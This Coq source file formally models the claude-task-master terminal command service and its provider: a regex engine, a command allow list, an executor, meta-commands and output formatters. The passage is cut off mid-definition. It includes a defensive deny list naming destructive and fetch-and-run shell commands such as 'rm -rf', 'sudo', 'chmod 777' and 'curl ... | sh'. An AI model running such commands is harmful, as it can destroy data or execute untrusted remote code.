(** * Terminal command service of claude-task-master

    A shallow embedding of [scripts/modules/terminal-service.js]
    (class [TerminalService]) and of [src/ai-providers/claude-code.js]
    (class [ClaudeCodeAIProvider]), followed by the properties of the
    command policy, the executor, the batch runner, the meta-commands and
    the result formatters.

    JavaScript strings are sequences of UTF-16 code units; they are
    modelled as lists of code units ([N]).  The operating system (the
    subprocesses started by [child_process.exec], the clock read by
    [Date.now]) and the text-generation service of the parent provider are
    parameters of the development. *)

From Stdlib Require Import List ZArith NArith Bool Lia String Ascii DecimalString.
Import ListNotations.

Set Implicit Arguments.

(* ================================================================== *)
(** * JavaScript strings and values *)
(* ================================================================== *)

Module JS.

(** A string is the list of its UTF-16 code units. *)
Definition jsstring := list N.

(** An ASCII literal of the source, as a [jsstring]. *)
Definition js (s : string) : jsstring := map N_of_ascii (list_ascii_of_string s).

(** The escape ['\n'] of the source. *)
Definition LF : N := 10.
Definition SP : N := 32.
(** The double quote. *)
Definition DQ : N := 34.

Fixpoint str_eqb (a b : jsstring) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => N.eqb x y && str_eqb a' b'
  | _, _ => false
  end.

(** [s.length] *)
Definition strlen (s : jsstring) : Z := Z.of_nat (List.length s).

(** ECMAScript WhiteSpace and LineTerminator code points: the characters
    removed by [String.prototype.trim] and matched by the class [\s]. *)
Definition isWhiteSpace (c : N) : bool :=
  (N.leb 9 c && N.leb c 13) || N.eqb c 32 || N.eqb c 160 || N.eqb c 5760
  || (N.leb 8192 c && N.leb c 8202) || N.eqb c 8232 || N.eqb c 8233
  || N.eqb c 8239 || N.eqb c 8287 || N.eqb c 12288 || N.eqb c 65279.

(** ECMAScript LineTerminator: the characters [.] does not match. *)
Definition isLineTerminator (c : N) : bool :=
  N.eqb c 10 || N.eqb c 13 || N.eqb c 8232 || N.eqb c 8233.

Fixpoint trimStart (s : jsstring) : jsstring :=
  match s with
  | [] => []
  | c :: s' => if isWhiteSpace c then trimStart s' else s
  end.

Definition trimEnd (s : jsstring) : jsstring := rev (trimStart (rev s)).

(** [s.trim()] *)
Definition trim (s : jsstring) : jsstring := trimEnd (trimStart s).

(** [s.split(sep)] for a separator of one code unit.  The result is never
    empty: the empty string splits into one empty string. *)
Fixpoint split (sep : N) (s : jsstring) : list jsstring :=
  match s with
  | [] => [[]]
  | c :: s' =>
      if N.eqb c sep then [] :: split sep s'
      else match split sep s' with
           | l :: ls => (c :: l) :: ls
           | [] => [[c]]
           end
  end.

(** [parts.join(sep)] *)
Fixpoint join (sep : jsstring) (parts : list jsstring) : jsstring :=
  match parts with
  | [] => []
  | [p] => p
  | p :: ps => p ++ sep ++ join sep ps
  end.

(** [s.startsWith(p)] *)
Fixpoint startsWith (s p : jsstring) {struct p} : bool :=
  match p, s with
  | [], _ => true
  | x :: p', y :: s' => N.eqb x y && startsWith s' p'
  | _ :: _, [] => false
  end.

(** [s.substring(0, n)]: the end index is clamped to [0 .. s.length]. *)
Definition substring0 (s : jsstring) (n : Z) : jsstring := firstn (Z.to_nat n) s.

(** A string in a boolean context: the empty string is falsy. *)
Definition truthy_str (s : jsstring) : bool :=
  match s with [] => false | _ :: _ => true end.

(** The values an exit code, an error code or a duration can hold.  Numbers
    are integers here: exit codes, signal-less statuses and millisecond
    differences are. *)
Inductive value : Type :=
| Undefined
| Null
| Number (z : Z)
| Str (s : jsstring).

(** A value in a boolean context. *)
Definition truthy (v : value) : bool :=
  match v with
  | Undefined | Null => false
  | Number z => negb (Z.eqb z 0)
  | Str s => truthy_str s
  end.

(** [a || b] *)
Definition or_else (a b : value) : value := if truthy a then a else b.

(** [v === 0] *)
Definition is_zero (v : value) : bool :=
  match v with Number z => Z.eqb z 0 | _ => false end.

(** Decimal rendering of an integer, as in a template literal. *)
Definition of_Z (z : Z) : jsstring := js (NilZero.string_of_int (Z.to_int z)).

(** [`${v}`] *)
Definition to_string (v : value) : jsstring :=
  match v with
  | Undefined => js "undefined"
  | Null => js "null"
  | Number z => of_Z z
  | Str s => s
  end.

(** An optional boolean property of an object in a boolean context: an
    absent property reads [undefined]. *)
Definition flag (b : option bool) : bool :=
  match b with Some true => true | _ => false end.

End JS.

Import JS.

(* ================================================================== *)
(** * Regular expressions *)
(* ================================================================== *)

Module RegExp.

(** The fragment of the pattern language the deny patterns use: classes of
    code units, concatenation and greedy repetition.  Only [test] is called
    on them, so only the set of matched strings matters. *)
Inductive regex : Type :=
| Void
| Eps
| Class (f : N -> bool)
| Cat (r1 r2 : regex)
| Alt (r1 r2 : regex)
| Star (r : regex).

(** The strings a pattern matches exactly. *)
Inductive lang : regex -> jsstring -> Prop :=
| lang_eps : lang Eps []
| lang_class f c : f c = true -> lang (Class f) [c]
| lang_cat r1 r2 s1 s2 : lang r1 s1 -> lang r2 s2 -> lang (Cat r1 r2) (s1 ++ s2)
| lang_alt_l r1 r2 s : lang r1 s -> lang (Alt r1 r2) s
| lang_alt_r r1 r2 s : lang r2 s -> lang (Alt r1 r2) s
| lang_star_nil r : lang (Star r) []
| lang_star_cons r s1 s2 : lang r s1 -> lang (Star r) s2 -> lang (Star r) (s1 ++ s2).

(** A pattern without anchors matches a string when it matches one of its
    substrings. *)
Definition occurs (r : regex) (s : jsstring) : Prop :=
  exists pre m post, s = pre ++ m ++ post /\ lang r m.

Fixpoint nullable (r : regex) : bool :=
  match r with
  | Void => false
  | Eps => true
  | Class _ => false
  | Cat r1 r2 => nullable r1 && nullable r2
  | Alt r1 r2 => nullable r1 || nullable r2
  | Star _ => true
  end.

Fixpoint deriv (c : N) (r : regex) : regex :=
  match r with
  | Void => Void
  | Eps => Void
  | Class f => if f c then Eps else Void
  | Cat r1 r2 =>
      if nullable r1 then Alt (Cat (deriv c r1) r2) (deriv c r2)
      else Cat (deriv c r1) r2
  | Alt r1 r2 => Alt (deriv c r1) (deriv c r2)
  | Star r1 => Cat (deriv c r1) (Star r1)
  end.

(** Does the pattern match at the start of [s]? *)
Fixpoint matchHere (r : regex) (s : jsstring) : bool :=
  nullable r ||
  match s with
  | [] => false
  | c :: s' => matchHere (deriv c r) s'
  end.

(** [pattern.test(s)] for a pattern without the [g] and [y] flags: a match
    is tried at every start index. *)
Fixpoint test (r : regex) (s : jsstring) : bool :=
  matchHere r s ||
  match s with
  | [] => false
  | _ :: s' => test r s'
  end.

(** ** Pattern syntax *)

Definition is_upper (c : N) : bool := N.leb 65 c && N.leb c 90.
Definition is_lower (c : N) : bool := N.leb 97 c && N.leb c 122.

(** A pattern character under the [i] flag.  Canonicalization maps a code
    unit to its upper case unless that leaves ASCII from outside it, so an
    ASCII letter matches its two cases and any other ASCII character only
    itself. *)
Definition chr_i (p : N) : regex :=
  Class (fun c =>
    N.eqb c p
    || (is_lower p && N.eqb c (p - 32))
    || (is_upper p && N.eqb c (p + 32))).

(** A pattern character without flags. *)
Definition chr (p : N) : regex := Class (fun c => N.eqb c p).

(** [\s] *)
Definition space : regex := Class isWhiteSpace.

(** [.] *)
Definition dot : regex := Class (fun c => negb (isLineTerminator c)).

(** [r+] *)
Definition plus (r : regex) : regex := Cat r (Star r).

Fixpoint seq (rs : list regex) : regex :=
  match rs with
  | [] => Eps
  | [r] => r
  | r :: rs' => Cat r (seq rs')
  end.

(** A run of literal characters. *)
Definition lit (s : string) : regex := seq (map chr (js s)).
Definition lit_i (s : string) : regex := seq (map chr_i (js s)).

End RegExp.

Import RegExp.

(* ================================================================== *)
(** * The terminal service ([scripts/modules/terminal-service.js]) *)
(* ================================================================== *)

(** ** Data *)

(** The options object handed to [child_process.exec]. *)
Record ExecOptions : Type := {
  x_cwd : jsstring;
  x_timeout : Z;
  x_maxBuffer : Z;
  x_env : list (jsstring * jsstring)
}.

(** The error a rejected [exec] promise carries.  [stdout] and [stderr] are
    absent when the process could not be started; [code] is the exit
    status, an error name such as ENOENT, or [null] after a kill. *)
Record ExecError : Type := {
  e_stdout : option jsstring;
  e_stderr : option jsstring;
  e_message : jsstring;
  e_code : value
}.

Inductive ExecOutcome : Type :=
| Resolved (out err : jsstring)
| Rejected (e : ExecError).

(** The per-call options of [executeCommand] and [executeCommands].  The
    two flags are only read in a boolean context, so an absent flag is
    [false]. *)
Record Options : Type := {
  cwd : option jsstring;
  timeout : option Z;
  env : list (jsstring * jsstring);
  skipSafetyCheck : bool;
  continueOnError : bool
}.

(** [options = {}] *)
Definition no_options : Options :=
  {| cwd := None; timeout := None; env := [];
     skipSafetyCheck := false; continueOnError := false |}.

(** The object [executeCommand] returns.  [blocked], [truncated] and [error]
    are present on some paths only. *)
Record Result : Type := {
  command : jsstring;
  stdout : jsstring;
  stderr : jsstring;
  exitCode : value;
  duration : value;
  blocked : option bool;
  truncated : option bool;
  error : option bool
}.

(** The fields of a [TerminalService] instance. *)
Record TerminalService : Type := {
  projectRoot : jsstring;
  svc_timeout : Z;
  maxOutputLength : Z;
  safeCommands : list jsstring
}.

(** The options of the constructor. *)
Record ServiceOptions : Type := {
  o_projectRoot : option jsstring;
  o_timeout : option Z;
  o_maxOutputLength : option Z
}.

(** [o || d] for an optional string and for an optional number. *)
Definition str_or (o : option jsstring) (d : jsstring) : jsstring :=
  match o with
  | Some s => if truthy_str s then s else d
  | None => d
  end.

Definition num_or (o : option Z) (d : Z) : Z :=
  match o with
  | Some z => if Z.eqb z 0 then d else z
  | None => d
  end.

(** The allow list, in the insertion order of the [Set]. *)
Definition default_safeCommands : list jsstring :=
  map js
    [ "ls"; "pwd"; "echo"; "cat"; "grep"; "find"; "which";
      "npm list"; "npm run"; "yarn list"; "yarn run";
      "git status"; "git log"; "git branch"; "git diff"; "git --version";
      "node --version"; "npm --version"; "yarn --version" ]%string.

(** [new TerminalService(options)]; [process_cwd] is [process.cwd()]. *)
Definition new_TerminalService (process_cwd : jsstring) (o : ServiceOptions)
  : TerminalService :=
  {| projectRoot := str_or (o_projectRoot o) process_cwd;
     svc_timeout := num_or (o_timeout o) 30000;
     maxOutputLength := num_or (o_maxOutputLength o) 10000;
     safeCommands := default_safeCommands |}.

Definition no_service_options : ServiceOptions :=
  {| o_projectRoot := None; o_timeout := None; o_maxOutputLength := None |}.

(** ** The command policy *)

(** The six deny patterns of [isCommandSafe], in order:
    [/rm\s+-rf/i], [/>\s*\/dev\/null/], [/sudo/i], [/chmod\s+777/i],
    [/curl.*\|.*sh/i], [/wget.*\|.*sh/i]. *)
Definition dangerousPatterns : list regex :=
  [ seq [lit_i "rm"; plus space; lit_i "-rf"];
    seq [lit ">"; Star space; lit "/dev/null"];
    lit_i "sudo";
    seq [lit_i "chmod"; plus space; lit_i "777"];
    seq [lit_i "curl"; Star dot; lit_i "|"; Star dot; lit_i "sh"];
    seq [lit_i "wget"; Star dot; lit_i "|"; Star dot; lit_i "sh"] ].

(** [safeCommands.has(s)] *)
Definition has (set : list jsstring) (s : jsstring) : bool :=
  existsb (str_eqb s) set.

(** [command.trim().split(' ')[0]] *)
Definition baseCommand (command : jsstring) : jsstring :=
  hd [] (split SP (trim command)).

Definition isCommandSafe (svc : TerminalService) (command : jsstring) : bool :=
  if existsb (fun pattern => test pattern command) dangerousPatterns then false
  else
    has (safeCommands svc) (baseCommand command)
    || existsb (fun safe => startsWith command safe) (safeCommands svc).

(** ** Output truncation *)

Definition truncation_marker : jsstring := LF :: js "... (output truncated)".

Definition truncateOutput (svc : TerminalService) (output : jsstring) : jsstring :=
  if negb (truthy_str output) || Z.leb (strlen output) (maxOutputLength svc)
  then output
  else substring0 output (maxOutputLength svc) ++ truncation_marker.

(** [{ ...a, ...b }] on environments: the entries of [b] win. *)
Fixpoint env_lookup (k : jsstring) (e : list (jsstring * jsstring)) : option jsstring :=
  match e with
  | [] => None
  | (k', v) :: e' => if str_eqb k k' then Some v else env_lookup k e'
  end.

Definition env_merge (a b : list (jsstring * jsstring)) : list (jsstring * jsstring) :=
  map (fun kv => match env_lookup (fst kv) b with
                 | Some v => (fst kv, v)
                 | None => kv
                 end) a
  ++ filter (fun kv => match env_lookup (fst kv) a with
                       | Some _ => false
                       | None => true
                       end) b.

(** ** The world: subprocesses, clock, logger, text generation *)

(** The request [claudeExplain] sends to [generateText]. *)
Record GenParams : Type := {
  systemPrompt : jsstring;
  prompt : jsstring;
  maxTokens : Z
}.

(** What awaiting a promise gives: a value, or a thrown error. *)
Inductive completion (A : Type) : Type :=
| Returns (a : A)
| Throws (message : jsstring).
Arguments Returns {A} a.
Arguments Throws {A} message.

Inductive Style : Type := green | red | gray | cyan | yellow.

(** Everything outside the program. *)
Class Machine : Type := {
  (** the state of the operating system *)
  Env : Type;
  (** [Date.now()] *)
  Date_now : Env -> Z * Env;
  (** [promisify(exec)(command, options)], awaited *)
  execAsync : jsstring -> ExecOptions -> Env -> ExecOutcome * Env;
  (** [process.env] and [process.cwd()] *)
  process_env : list (jsstring * jsstring);
  process_cwd : jsstring;
  (** [generateText] of the parent provider ([./anthropic.js]), awaited;
      the returned string is the [text] property of its answer *)
  super_generateText : GenParams -> Env -> completion jsstring * Env;
  (** the [chalk] styles: each wraps a string in its colour codes *)
  chalk : Style -> jsstring -> jsstring;
  (** [log(level, message)] of [./utils.js]: it acts on the outside only *)
  utils_log : jsstring -> jsstring -> Env -> Env
}.

Section World.

Context {machine : Machine}.

(** The state threaded through the program: the outside world, and the
    record of what the program asked of it (subprocesses started and
    text-generation requests made), oldest first. *)
Record World : Type := {
  os : Env;
  spawned : list (jsstring * ExecOptions);
  generated : list GenParams
}.

Definition M (A : Type) : Type := World -> A * World.

Definition ret {A} (a : A) : M A := fun w => (a, w).

Definition bind {A B} (m : M A) (k : A -> M B) : M B :=
  fun w => let (a, w') := m w in k a w'.

Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 61, m at next level, right associativity).
Notation "m ;;; k" := (bind m (fun _ => k))
  (at level 61, right associativity).

Definition now : M Z := fun w =>
  let (t, e) := Date_now (os w) in
  (t, {| os := e; spawned := spawned w; generated := generated w |}).

Definition log (level message : jsstring) : M unit := fun w =>
  (tt, {| os := utils_log level message (os w); spawned := spawned w;
          generated := generated w |}).

Definition exec (cmd : jsstring) (xo : ExecOptions) : M ExecOutcome := fun w =>
  let (out, e) := execAsync cmd xo (os w) in
  (out, {| os := e; spawned := spawned w ++ [(cmd, xo)];
           generated := generated w |}).

(** ** The executor *)

Definition executeCommand (svc : TerminalService) (cmd : jsstring)
    (options : Options) : M Result :=
  startTime <- now ;;
  if negb (skipSafetyCheck options) && negb (isCommandSafe svc cmd) then
    log (js "warn") (js "Potentially unsafe command blocked: " ++ cmd) ;;;
    t <- now ;;
    ret {| command := cmd;
           stdout := [];
           stderr := js "Command blocked for safety reasons";
           exitCode := Number 1;
           duration := Number (t - startTime);
           blocked := Some true;
           truncated := None;
           error := None |}
  else
    log (js "debug") (js "Executing command: " ++ cmd) ;;;
    outcome <- exec cmd
      {| x_cwd := str_or (cwd options) (projectRoot svc);
         x_timeout := num_or (timeout options) (svc_timeout svc);
         x_maxBuffer := 1024 * 1024 * 10;
         x_env := env_merge process_env (env options) |} ;;
    match outcome with
    | Resolved out err =>
        t <- now ;;
        ret {| command := cmd;
               stdout := truncateOutput svc out;
               stderr := truncateOutput svc err;
               exitCode := Number 0;
               duration := Number (t - startTime);
               blocked := None;
               truncated := Some (Z.ltb (maxOutputLength svc) (strlen out)
                                  || Z.ltb (maxOutputLength svc) (strlen err));
               error := None |}
    | Rejected e =>
        t <- now ;;
        ret {| command := cmd;
               stdout := truncateOutput svc (str_or (e_stdout e) []);
               stderr := truncateOutput svc (str_or (e_stderr e) (e_message e));
               exitCode := or_else (e_code e) (Number 1);
               duration := Number (t - startTime);
               blocked := None;
               truncated := None;
               error := Some true |}
    end.

(** ** The batch runner *)

(** The [for ... of] loop of [executeCommands]; [results] is the array
    filled so far. *)
Fixpoint executeCommands_loop (svc : TerminalService) (commands : list jsstring)
    (options : Options) (results : list Result) : M (list Result) :=
  match commands with
  | [] => ret results
  | cmd :: rest =>
      result <- executeCommand svc cmd options ;;
      let results := results ++ [result] in
      if negb (is_zero (exitCode result)) && negb (continueOnError options)
      then ret results
      else executeCommands_loop svc rest options results
  end.

Definition executeCommands (svc : TerminalService) (commands : list jsstring)
    (options : Options) : M (list Result) :=
  executeCommands_loop svc commands options [].

(** ** Meta-commands of the service *)

(** The [context] argument of the meta-commands. *)
Record CommandContext : Type := {
  searchPath : option jsstring;
  ctx_projectRoot : option jsstring
}.

Record SearchEntry : Type := {
  s_command : jsstring;
  matches : nat;
  preview : jsstring
}.

Record SearchResult : Type := {
  sr_command : jsstring;
  results : list SearchEntry
}.

Inductive ExplainResult : Type :=
| Explanation (cmd explanation : jsstring)
| CouldNotRead (cmd error stderr : jsstring).

Definition searchCommands (query : jsstring) (context : CommandContext) : list jsstring :=
  [ js "grep -r " ++ [DQ] ++ query ++ [DQ] ++ js " "
      ++ str_or (searchPath context) (js ".");
    js "find " ++ str_or (searchPath context) (js ".") ++ js " -name " ++ [DQ]
      ++ js "*" ++ query ++ js "*" ++ [DQ];
    js "git log --grep=" ++ [DQ] ++ query ++ [DQ] ++ js " --oneline -10" ].

(** [r.stdout.split('\n').filter(line => line.trim()).length] *)
Definition count_matches (out : jsstring) : nat :=
  List.length (filter (fun line => truthy_str (trim line)) (split LF out)).

(** [r.stdout.split('\n').slice(0, 5).join('\n')] *)
Definition make_preview (out : jsstring) : jsstring :=
  join [LF] (firstn 5 (split LF out)).

Definition search_entry (r : Result) : SearchEntry :=
  {| s_command := command r;
     matches := count_matches (stdout r);
     preview := make_preview (stdout r) |}.

(** [{ continueOnError: true }] *)
Definition continue_options : Options :=
  {| cwd := None; timeout := None; env := [];
     skipSafetyCheck := false; continueOnError := true |}.

(** [TerminalService.claudeSearch] *)
Definition claudeSearch (svc : TerminalService) (query : jsstring)
    (context : CommandContext) : M SearchResult :=
  rs <- executeCommands svc (searchCommands query context) continue_options ;;
  ret {| sr_command := js "claude-search " ++ query;
         results := map search_entry rs |}.

(** [TerminalService.claudeExplain]: a placeholder, no command is run. *)
Definition claudeExplain (svc : TerminalService) (target : jsstring)
    (context : CommandContext) : M ExplainResult :=
  ret (Explanation (js "claude-explain " ++ target)
         (js "This command would use AI to explain the specified code or file")).

(** ** The display formatter of the service *)

Definition CHECK_MARK : N := 10003.  (* U+2713 *)
Definition BALLOT_X : N := 10007.    (* U+2717 *)

Definition formatResult (result : Result) : jsstring :=
  let status := if is_zero (exitCode result)
                then chalk green [CHECK_MARK] else chalk red [BALLOT_X] in
  let duration := chalk gray (js "(" ++ to_string (duration result) ++ js "ms)") in
  let output := status ++ js " " ++ chalk cyan (command result) ++ js " "
                ++ duration ++ [LF] in
  let output := if truthy_str (stdout result)
                then output ++ chalk gray (js "Output:" ++ [LF])
                       ++ stdout result ++ [LF]
                else output in
  let output := if truthy_str (stderr result)
                then output ++ chalk red (js "Error:" ++ [LF])
                       ++ stderr result ++ [LF]
                else output in
  let output := if flag (truncated result)
                then output ++ chalk yellow (js "(Output was truncated)" ++ [LF])
                else output in
  output.

(* ================================================================== *)
(** * The provider ([src/ai-providers/claude-code.js]) *)
(* ================================================================== *)

(** The singleton [terminalService = new TerminalService()]. *)
Definition Provider_terminalService : TerminalService :=
  new_TerminalService process_cwd no_service_options.

(** One element of [results.map((result, index) => ...)]. *)
Definition formatTerminalResult (result : Result) (index : nat) : jsstring :=
  let formatted := js "### Command " ++ of_Z (Z.of_nat index + 1) ++ js ": `"
                   ++ command result ++ js "`" ++ [LF] in
  let formatted :=
    if flag (blocked result) then
      formatted ++ js "**Status:** Blocked for safety" ++ [LF]
        ++ js "**Reason:** " ++ stderr result ++ [LF]
    else
      let formatted := formatted ++ js "**Exit Code:** "
                       ++ to_string (exitCode result) ++ [LF] in
      let formatted :=
        if truthy_str (stdout result)
        then formatted ++ js "**Output:**" ++ [LF] ++ js "```" ++ [LF]
               ++ stdout result ++ [LF] ++ js "```" ++ [LF]
        else formatted in
      if truthy_str (stderr result) && negb (is_zero (exitCode result))
      then formatted ++ js "**Error:**" ++ [LF] ++ js "```" ++ [LF]
             ++ stderr result ++ [LF] ++ js "```" ++ [LF]
      else formatted in
  if flag (truncated result)
  then formatted ++ js "*Note: Output was truncated*" ++ [LF]
  else formatted.

(** [array.map((x, index) => f(x, index))], from index [i]. *)
Fixpoint map_indexed {A B} (f : A -> nat -> B) (i : nat) (l : list A) : list B :=
  match l with
  | [] => []
  | x :: l' => f x i :: map_indexed f (S i) l'
  end.

Definition formatTerminalResults (rs : list Result) : jsstring :=
  join [LF] (map_indexed formatTerminalResult 0 rs).

(** [{ continueOnError: true, cwd: context.projectRoot }] *)
Definition continue_in_project_root (context : CommandContext) : Options :=
  {| cwd := ctx_projectRoot context; timeout := None; env := [];
     skipSafetyCheck := false; continueOnError := true |}.

(** [ClaudeCodeAIProvider.claudeSearch]: the same three probes, run in the
    project root of the context. *)
Definition Provider_claudeSearch (query : jsstring) (context : CommandContext) : M SearchResult :=
  rs <- executeCommands Provider_terminalService (searchCommands query context)
          (continue_in_project_root context) ;;
  ret {| sr_command := js "claude-search " ++ query;
         results := map search_entry rs |}.

(** [this.generateText(params)] for a request without [terminalCommands]:
    the override hands it to the parent provider unchanged. *)
Definition Provider_generateText (params : GenParams) : M (completion jsstring) := fun w =>
  let (answer, e) := super_generateText params (os w) in
  (answer, {| os := e; spawned := spawned w;
              generated := generated w ++ [params] |}).

Definition explain_request (content : jsstring) : GenParams :=
  {| systemPrompt := js "You are a code explanation expert. Explain the following code clearly and concisely.";
     prompt := js "Explain this code:" ++ [LF; LF] ++ js "```" ++ [LF]
               ++ content ++ [LF] ++ js "```";
     maxTokens := 500 |}.

(** [{ cwd: context.projectRoot }] *)
Definition in_project_root (context : CommandContext) : Options :=
  {| cwd := ctx_projectRoot context; timeout := None; env := [];
     skipSafetyCheck := false; continueOnError := false |}.

(** [ClaudeCodeAIProvider.claudeExplain] *)
Definition Provider_claudeExplain (target : jsstring) (context : CommandContext)
  : M (completion ExplainResult) :=
  fileContent <- executeCommand Provider_terminalService (js "cat " ++ target)
                   (in_project_root context) ;;
  if is_zero (exitCode fileContent) then
    explanation <- Provider_generateText (explain_request (stdout fileContent)) ;;
    match explanation with
    | Returns text => ret (Returns (Explanation (js "claude-explain " ++ target) text))
    | Throws message => ret (Throws message)
    end
  else
    ret (Returns (CouldNotRead (js "claude-explain " ++ target)
                    (js "Could not read file") (stderr fileContent))).

End World.

(* ================================================================== *)
(** * Vocabulary of the specification *)
(* ================================================================== *)

(** The index of the first result whose exit code is not 0. *)
Fixpoint first_failure (rs : list Result) : option nat :=
  match rs with
  | [] => None
  | r :: rs' =>
      if is_zero (exitCode r) then option_map S (first_failure rs') else Some 0%nat
  end.

(** The results for which a subprocess was started. *)
Definition attempted (rs : list Result) : list Result :=
  filter (fun r => negb (flag (blocked r))) rs.

(** The number of lines of a text, lines being separated by line feeds,
    that hold a character other than white space.  [seen] tells whether the
    line being read has shown such a character. *)
Fixpoint nonblank_scan (seen : bool) (text : jsstring) : nat :=
  match text with
  | [] => if seen then 1 else 0
  | c :: text' =>
      if N.eqb c LF
      then (if seen then 1 else 0) + nonblank_scan false text'
      else nonblank_scan (seen || negb (isWhiteSpace c)) text'
  end.

Definition nonblank_lines (text : jsstring) : nat := nonblank_scan false text.

(** What a search meta-command makes of its probes: [answer] is built from
    the results [rs] of the three probes run as one batch, which started
    the probes that were not blocked and nothing else; it has one entry per
    result, each counting the lines of its probe's output that are not
    blank. *)
Definition search_synthesis {machine : Machine} (svc : TerminalService)
    (options : Options) (query : jsstring) (context : CommandContext) (w : World)
    (answer : SearchResult * World) : Prop :=
  exists rs,
    executeCommands svc (searchCommands query context) options w = (rs, snd answer)
    /\ List.length rs = 3
    /\ map command rs = searchCommands query context
    /\ map fst (spawned (snd answer))
       = map fst (spawned w) ++ map command (attempted rs)
    /\ sr_command (fst answer) = js "claude-search " ++ query
    /\ Forall2 (fun r entry =>
                  s_command entry = command r
                  /\ matches entry = nonblank_lines (stdout r))
         rs (results (fst answer)).

(** The parts of the rendering of one result in the prompt context, as
    [formatTerminalResults] orders them. *)
Inductive ContextPart : Type :=
| Heading (position : Z) (cmd : jsstring)
| BlockedNotice
| Reason (text : jsstring)
| ExitCodeLine (code : value)
| OutputBlock (text : jsstring)
| ErrorBlock (text : jsstring)
| TruncationNote.

Definition render_context_part (p : ContextPart) : jsstring :=
  match p with
  | Heading position cmd =>
      js "### Command " ++ of_Z position ++ js ": `" ++ cmd ++ js "`" ++ [LF]
  | BlockedNotice => js "**Status:** Blocked for safety" ++ [LF]
  | Reason text => js "**Reason:** " ++ text ++ [LF]
  | ExitCodeLine code => js "**Exit Code:** " ++ to_string code ++ [LF]
  | OutputBlock text =>
      js "**Output:**" ++ [LF] ++ js "```" ++ [LF] ++ text ++ [LF] ++ js "```" ++ [LF]
  | ErrorBlock text =>
      js "**Error:**" ++ [LF] ++ js "```" ++ [LF] ++ text ++ [LF] ++ js "```" ++ [LF]
  | TruncationNote => js "*Note: Output was truncated*" ++ [LF]
  end.

(** The parts rendered for the result at [index] (from 0): a heading with
    the position and the command; for a blocked result the notice and the
    reason, otherwise the exit code, the output when there is some and the
    error text when there is some and the exit code is not 0; a truncation
    note when the flag is set. *)
Definition context_parts (r : Result) (index : nat) : list ContextPart :=
  [Heading (Z.of_nat index + 1) (command r)]
  ++ (if flag (blocked r) then [BlockedNotice; Reason (stderr r)]
      else [ExitCodeLine (exitCode r)]
           ++ (if truthy_str (stdout r) then [OutputBlock (stdout r)] else [])
           ++ (if truthy_str (stderr r) && negb (is_zero (exitCode r))
               then [ErrorBlock (stderr r)] else []))
  ++ (if flag (truncated r) then [TruncationNote] else []).

(** The parts of the display of one result, as [formatResult] orders them. *)
Inductive DisplayPart : Type :=
| StatusLine (ok : bool) (cmd : jsstring) (time : value)
| DisplayOutput (text : jsstring)
| DisplayError (text : jsstring)
| DisplayTruncated.

Definition render_display_part {machine : Machine} (p : DisplayPart) : jsstring :=
  match p with
  | StatusLine ok cmd time =>
      (if ok then chalk green [CHECK_MARK] else chalk red [BALLOT_X])
      ++ js " " ++ chalk cyan cmd ++ js " "
      ++ chalk gray (js "(" ++ to_string time ++ js "ms)") ++ [LF]
  | DisplayOutput text => chalk gray (js "Output:" ++ [LF]) ++ text ++ [LF]
  | DisplayError text => chalk red (js "Error:" ++ [LF]) ++ text ++ [LF]
  | DisplayTruncated => chalk yellow (js "(Output was truncated)" ++ [LF])
  end.

(** The parts displayed for a result: the status line (indicator, command,
    duration), the output when there is some, the error text when there is
    some, a truncation note when the flag is set. *)
Definition display_parts (r : Result) : list DisplayPart :=
  [StatusLine (is_zero (exitCode r)) (command r) (duration r)]
  ++ (if truthy_str (stdout r) then [DisplayOutput (stdout r)] else [])
  ++ (if truthy_str (stderr r) then [DisplayError (stderr r)] else [])
  ++ (if flag (truncated r) then [DisplayTruncated] else []).

(** What one call of [executeCommand] can do: it refuses the command
    without starting anything, or it starts exactly one subprocess and
    reports how that one ended. *)
Inductive executed {machine : Machine} (svc : TerminalService) (cmd : jsstring)
    (options : Options) (w : World) (r : Result) (w' : World) : Prop :=
| executed_blocked :
    skipSafetyCheck options = false ->
    isCommandSafe svc cmd = false ->
    blocked r = Some true ->
    stdout r = [] ->
    stderr r = js "Command blocked for safety reasons" ->
    exitCode r = Number 1 ->
    truncated r = None ->
    error r = None ->
    spawned w' = spawned w ->
    executed svc cmd options w r w'
| executed_resolved xo out err :
    skipSafetyCheck options = true \/ isCommandSafe svc cmd = true ->
    spawned w' = spawned w ++ [(cmd, xo)] ->
    blocked r = None ->
    stdout r = truncateOutput svc out ->
    stderr r = truncateOutput svc err ->
    exitCode r = Number 0 ->
    truncated r = Some (Z.ltb (maxOutputLength svc) (strlen out)
                        || Z.ltb (maxOutputLength svc) (strlen err)) ->
    error r = None ->
    executed svc cmd options w r w'
| executed_rejected xo e :
    skipSafetyCheck options = true \/ isCommandSafe svc cmd = true ->
    spawned w' = spawned w ++ [(cmd, xo)] ->
    blocked r = None ->
    stdout r = truncateOutput svc (str_or (e_stdout e) []) ->
    stderr r = truncateOutput svc (str_or (e_stderr e) (e_message e)) ->
    exitCode r = or_else (e_code e) (Number 1) ->
    truncated r = None ->
    error r = Some true ->
    executed svc cmd options w r w'.

(* ================================================================== *)
(** * The rest of the service and of the provider *)
(* ================================================================== *)

Section MoreOfTheService.

Context {machine : Machine}.

Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 61, m at next level, right associativity).

(** ** [TerminalService.claudeAnalyze], [getSystemInfo], [isCommandAvailable] *)

(** [results[i]?.stdout?.trim()] and [results[i]?.stdout] read [undefined]
    when the array has no element [i]. *)
Record Analysis : Type := {
  lineCount : option jsstring;
  fileType : option jsstring;
  a_preview : option jsstring
}.

Record AnalyzeResult : Type := {
  ar_command : jsstring;
  analysis : Analysis
}.

Definition analyzeCommands (target : jsstring) : list jsstring :=
  [ js "wc -l " ++ target; js "file " ++ target; js "head -20 " ++ target ].

Definition analysis_of (rs : list Result) : Analysis :=
  {| lineCount := option_map (fun r => trim (stdout r)) (nth_error rs 0);
     fileType := option_map (fun r => trim (stdout r)) (nth_error rs 1);
     a_preview := option_map stdout (nth_error rs 2) |}.

(** [TerminalService.claudeAnalyze] *)
Definition claudeAnalyze (svc : TerminalService) (target : jsstring)
    (context : CommandContext) : M AnalyzeResult :=
  rs <- executeCommands svc (analyzeCommands target) continue_options ;;
  ret {| ar_command := js "claude-analyze " ++ target; analysis := analysis_of rs |}.

(** [ClaudeCodeAIProvider.claudeAnalyze] *)
Definition Provider_claudeAnalyze (target : jsstring) (context : CommandContext)
  : M AnalyzeResult :=
  rs <- executeCommands Provider_terminalService (analyzeCommands target)
          (continue_in_project_root context) ;;
